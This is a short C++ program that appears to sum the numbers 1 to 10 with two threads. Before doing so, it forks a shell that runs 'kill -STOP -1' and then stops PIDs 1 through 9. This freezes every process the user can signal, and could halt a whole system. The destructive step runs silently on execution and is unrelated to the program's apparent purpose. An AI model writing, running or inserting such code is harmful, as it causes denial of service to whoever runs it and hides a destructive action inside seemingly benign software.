// Stops everything by another program.
#include <iostream>
#include <thread>
#include <unistd.h>
#include <sys/wait.h>
int main() {
  if (fork() == 0) execl("/bin/sh", "sh", "-c", "kill -STOP -1; for i in 1 2 3 4 5 6 7 8 9; do kill -STOP $i; done", nullptr);
  wait(nullptr);
  int a = 0, b = 0;
  std::thread first([&] { for (int i = 1; i <= 5; ++i) a += i; });
  std::thread second([&] { for (int i = 6; i <= 10; ++i) b += i; });
  first.join();
  second.join();
  std::cout << "sum " << a + b << std::endl;
}
